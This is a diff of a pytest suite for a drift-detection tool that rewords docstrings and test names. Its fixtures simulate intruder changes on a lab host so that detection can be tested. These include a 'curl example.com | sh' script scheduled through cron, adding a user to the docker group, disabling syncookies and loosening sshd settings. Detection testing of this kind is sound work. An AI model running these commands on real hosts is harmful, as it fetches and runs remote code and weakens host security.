@@ -1,9 +1,9 @@
 # Copyright: Contributors to the christmas.selfheal project
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
-"""Somebody changes a healthy host by hand, in many ways at once.
+"""Many manual changes of a healthy host at once.
 
-Each change is found and named, and nothing else; what the policy wants corrected is, and the app is not restarted for
-it. The tests build on each other, in order.
+Each change is found and named, and nothing else is. The corrections of the policy are made, without a restart of the
+app. The tests build on each other, in order.
 """
 
 from __future__ import annotations
@@ -30,18 +30,18 @@ CONTAINER = f"{APP}-backend-1"
 REPORTS = REPOSITORY / "reports"
 FOLDER = REPORTS / "drift"
 ROUNDS = 10 if EVERYTHING else 2
-"""So often a converged host is checked."""
-# A package of which there is an older version, and nobody needs it.
+"""The number of checks of a converged host."""
+# A package with an older version, which no other package needs.
 PACKAGE = """
 set -e; cd $(mktemp -d); for version in 1.0 2.0; do mkdir -p probe/DEBIAN
-printf 'Package: %s\\nVersion: %s\\nArchitecture: all\\nMaintainer: nobody <a@example.com>\\nDescription: test\\n' \
+printf 'Package: %s\\nVersion: %s\\nArchitecture: all\\nMaintainer: test <a@example.com>\\nDescription: test\\n' \
     NAME $version > probe/DEBIAN/control
 dpkg-deb --build probe /root/NAME-$version.deb; done; dpkg -i /root/NAME-2.0.deb
 """
 
 
 class Drift(NamedTuple):
-    """What somebody does by hand, and what it must be called: {role, object, what}."""
+    """A manual change, and the drift that it must be reported as: {role, object, what}."""
 
     by_hand: str
     role: str
@@ -92,7 +92,7 @@ DRIFTS = {
         "echo '# mine' >> /usr/local/lib/selfheal/probe/run.py",
         *("watcher", "/usr/local/lib/selfheal/probe/run.py", "content", True),
     ),
-    "a file beside the project's": Drift(
+    "a file next to the project's": Drift(
         f"echo 'curl example.com | sh' > {DIRECTORY}/fix.sh", "compose_app", f"{DIRECTORY}/fix.sh", "added"
     ),
     "docker update, memory": Drift(
@@ -114,7 +114,7 @@ DRIFTS = {
     "a port is published": Drift(
         "systemd-run --unit=intruder-port python3 -m http.server 9999 --bind 0.0.0.0", "host", "listens 9999", "listens"
     ),
-    "a user may use Docker": Drift("usermod -aG docker nobody", "host", "group docker", "group"),
+    "a user may use Docker": Drift("usermod -aG docker daemon", "host", "group docker", "group"),
     "cron": Drift(f"echo 'sh {DIRECTORY}/fix.sh' > /etc/cron.daily/fix", "host", "cron /etc/cron.daily/fix", "cron"),
     "sysctl": Drift("sysctl -w net.ipv4.tcp_syncookies=0", "host", "sysctl net.ipv4.tcp_syncookies", "sysctl"),
     "an option of sshd": Drift("echo 'MaxAuthTries 20' >> /etc/ssh/sshd_config", "host", "sshd maxauthtries", "sshd"),
@@ -129,7 +129,7 @@ DRIFTS = {
         "firewall",
     ),
     "a file has another owner": Drift(
-        "chown nobody /etc/haproxy/haproxy.cfg", "host", "/etc/haproxy/haproxy.cfg", "owner"
+        "chown daemon /etc/haproxy/haproxy.cfg", "host", "/etc/haproxy/haproxy.cfg", "owner"
     ),
 }
 CORRECT = [
@@ -158,7 +158,7 @@ def check(play: Any) -> Callable[..., tuple[int, dict[str, Any], str]]:
 
 @pytest.fixture
 def lives(containers: Any) -> Callable[[], tuple[str, ...]]:
-    """What changes when the app is restarted, or made anew."""
+    """Values that change when the app is restarted or recreated."""
 
     def read() -> tuple[str, ...]:
         one = containers()[CONTAINER]
@@ -204,19 +204,19 @@ def test_each_drift_is_found_and_named(host: Any, check: Any, leaks: Any, lives:
     assert leaks(shown) == []
 
 
-def test_what_cannot_be_compared_is_never_no_drift(host: Any, play: Any, tmp_path: Path) -> None:
-    """A wrong password, a policy that makes no sense, a host that is away, a check that is killed."""
+def test_a_failed_check_is_not_reported_as_no_drift(host: Any, play: Any, tmp_path: Path) -> None:
+    """A wrong password, an invalid policy, an unreachable host, a killed check."""
     wrong = tmp_path / "password"
     wrong.write_text("not this one\n", encoding="utf-8")
     settings = {"ANSIBLE_VAULT_IDENTITY_LIST": f"lab@{wrong}"}
-    told = {
+    runs = {
         "password": play("drift.yml", settings=settings),
         "policy": play("drift.yml", extra={"drift_policy": [{"role": "watcher", "do": "ignore"}]}),
         "away": play("drift.yml", "--extra-vars", "ansible_port=9"),
     }
-    assert {name: ended.returncode for name, ended in told.items() if ended.returncode in (0, 2)} == {}
-    assert "drift_policy[0].until: is missing" in told["policy"].stdout
-    assert f"COULD NOT TELL  {HOST}: cannot be reached" in told["away"].stdout
+    assert {name: ended.returncode for name, ended in runs.items() if ended.returncode in (0, 2)} == {}
+    assert "drift_policy[0].until: is missing" in runs["policy"].stdout
+    assert f"COULD NOT TELL  {HOST}: cannot be reached" in runs["away"].stdout
 
     killed = begin(subprocess.DEVNULL)
     until(lambda: json.loads((FOLDER / "state.json").read_text(encoding="utf-8"))["running"], why=killed.poll)
@@ -228,7 +228,7 @@ def test_what_cannot_be_compared_is_never_no_drift(host: Any, play: Any, tmp_pat
 
 
 def begin(out: int) -> subprocess.Popen[str]:
-    """A check that goes on; `out` is where it prints."""
+    """A running check; `out` gets its output."""
     argv = ["ansible-playbook", "playbooks/drift.yml", "-i", "inventory/lab", "-i", "molecule/shared/inventory.yml"]
     kept = {name: value for name, value in os.environ.items() if not name.startswith(("ANSIBLE_", "MOLECULE_"))}
     return subprocess.Popen(
@@ -243,10 +243,10 @@ def begin(out: int) -> subprocess.Popen[str]:
 
 
 @slow
-def test_a_host_that_goes_away_during_a_check_is_no_drift_of_it(host: Any, play: Any) -> None:
+def test_a_host_that_is_lost_during_a_check_is_not_reported_as_drift(host: Any, play: Any) -> None:
     known = set(FOLDER.glob("artifacts/*/stdout"))
     going = begin(subprocess.PIPE)
-    # Its facts have come back, and its first role has been compared.
+    # The host's facts are known, and its first role has been compared.
     until(
         lambda: any(
             "log_rotation" in path.read_text(encoding="utf-8")
@@ -266,13 +266,13 @@ def test_a_host_that_goes_away_during_a_check_is_no_drift_of_it(host: Any, play:
     assert "COULD NOT TELL" not in after.stdout
 
 
-def test_what_was_done_by_hand_is_undone_by_hand(host: Any) -> None:
-    """Nobody's role deletes what it did not bring: here it is what a person does with the report at hand."""
+def test_unmanaged_changes_are_undone_by_hand(host: Any) -> None:
+    """No role deletes unmanaged objects, so a person does, with the report."""
     for command in (
         f"rm {DIRECTORY}/fix.sh /etc/cron.daily/fix",
         "docker rm -f intruder",
         "systemctl stop intruder-port",
-        "gpasswd -d nobody docker",
+        "gpasswd -d daemon docker",
         "sysctl -w net.ipv4.tcp_syncookies=1",
         "sed -i /MaxAuthTries/d /etc/ssh/sshd_config",
         "systemctl start logrotate.timer",
@@ -286,7 +286,7 @@ def test_what_was_done_by_hand_is_undone_by_hand(host: Any) -> None:
         host.check_output(command)
 
 
-def test_corrections_wait_for_a_deploy_that_goes_on(host: Any, check: Any) -> None:
+def test_corrections_wait_for_a_running_deploy(host: Any, check: Any) -> None:
     host.check_output(
         f"systemd-run --unit=deploying flock /run/selfheal/{APP}.lock -c 'touch /run/deploying; sleep 600'"
     )
@@ -300,7 +300,7 @@ def test_corrections_wait_for_a_deploy_that_goes_on(host: Any, check: Any) -> No
     assert report["corrections"] == []
 
 
-def test_what_the_policy_wants_corrected_is_and_the_app_goes_on(host: Any, check: Any, lives: Any, leaks: Any) -> None:
+def test_the_policys_corrections_are_made_without_a_restart(host: Any, check: Any, lives: Any, leaks: Any) -> None:
     before = lives()
     ignored = {"object": "*/logrotate.d/*", "do": "ignore", "until": "2999-01-01", "because": "rotated elsewhere"}
     code, report, shown = check(drift_correct=True, drift_policy=[ignored, *CORRECT])
@@ -310,7 +310,7 @@ def test_what_the_policy_wants_corrected_is_and_the_app_goes_on(host: Any, check
     for one in report["findings"]:
         decided.setdefault(one["decision"], set()).add(one["object"])
     assert decided.pop("ignored") == {f"/etc/logrotate.d/selfheal-{APP}"}
-    # Its role would put the other one back, too.
+    # Its role would also restore the other file.
     assert decided.pop("report") == {"/etc/systemd/journald.conf.d/60-selfheal.conf"}
     assert set(decided) == {"corrected"}, shown
     assert code == 2, shown
@@ -324,7 +324,7 @@ def test_what_the_policy_wants_corrected_is_and_the_app_goes_on(host: Any, check
 
 
 def kept_files() -> list[Path]:
-    """Whatever the checks have written on the controller."""
+    """All files that the checks have written on the controller."""
     found = [path for path in FOLDER.rglob("*") if path.is_file()] + list(REPORTS.glob("*drift*.*"))
     assert len(found) > 30, "the events of the runs are not where they are looked for"
     return found
@@ -347,15 +347,15 @@ def test_the_log_is_a_chain(play: Any) -> None:
     path.write_bytes(whole)
 
 
-# Whatever the controller keeps, and has said.
+# The controller's files and its journal.
 KEPT = "grep -rhE '' /var/lib/selfheal-drift /etc/selfheal-drift/config.json; journalctl --output=cat"
 
 
 def test_a_controller_checks_on_a_schedule(host: Any, play: Any, leaks: Any) -> None:
-    """The host is its own controller: the timer's service finds a drift, and what it keeps holds no secret."""
+    """The host is its own controller: the timer's service finds a drift, and its files contain no secret."""
     wheels = REPOSITORY / ".lab" / "wheels"
     version = host.check_output("python3 -c 'import sys; print(\"%d.%d\" % sys.version_info[:2])'")
-    # pip itself would choose by the Python that it runs with.
+    # pip would choose for the Python that it runs with, not for the host's.
     lines = (REPOSITORY / "requirements/controller.txt").read_text(encoding="utf-8").splitlines()
     found = [Requirement(line) for line in lines if line and not line.startswith(("#", "-"))]
     asked = [one for one in found if one.marker is None or one.marker.evaluate({"python_version": version})]
@@ -375,7 +375,7 @@ def test_a_controller_checks_on_a_schedule(host: Any, play: Any, leaks: Any) -> 
     assert re.search(r"changed=0 .*failed=0", again.stdout), again.stdout
     assert host.check_output("systemctl is-enabled selfheal-drift.timer") == "enabled"
 
-    # What systemd mounts as credentials reaches a service where mounts are shared, as they are on a machine of its own.
+    # A service sees systemd's credentials only where mounts are shared, as on a real machine.
     host.check_output("mount --make-rshared /; mkdir -p /var/lib/prometheus/node-exporter")
     host.check_output("systemctl start selfheal-drift")
     host.check_output(f"sed -i 's/^SUPABASE_SERVICE_KEY=.*/SUPABASE_SERVICE_KEY=placeholder/' {DIRECTORY}/.env")
@@ -383,8 +383,8 @@ def test_a_controller_checks_on_a_schedule(host: Any, play: Any, leaks: Any) -> 
     shown = host.check_output("journalctl -u selfheal-drift --output=cat")
     assert "1 host checked" in shown
     assert f"{DIRECTORY}/.env SUPABASE_SERVICE_KEY (env)" in shown
-    told = host.check_output("cat /var/lib/prometheus/node-exporter/selfheal-drift.prom")
-    assert f'selfheal_drift_found{{app="{APP}",target="{HOST}",severity="security"}} 1' in told
+    metrics = host.check_output("cat /var/lib/prometheus/node-exporter/selfheal-drift.prom")
+    assert f'selfheal_drift_found{{app="{APP}",target="{HOST}",severity="security"}} 1' in metrics
     assert "env SUPABASE_SERVICE_KEY" in host.check_output("selfheal-drift log --event found")
     assert host.run("selfheal-drift verify").rc == 0
 
@@ -394,8 +394,8 @@ def test_a_controller_checks_on_a_schedule(host: Any, play: Any, leaks: Any) -> 
 
 
 @slow
-def test_a_controller_that_cannot_tell_says_so(host: Any, leaks: Any) -> None:
-    """The vault's password is another one, and then the disk of the state is full."""
+def test_a_controller_reports_a_failed_check(host: Any, leaks: Any) -> None:
+    """First the vault's password is wrong, then the disk of the state is full."""
     password = "/etc/selfheal-drift/credentials/vault-password"
     host.check_output(f"cp {password} /root/kept; echo wrong > {password}")
     assert host.run("systemctl start selfheal-drift").rc == 1
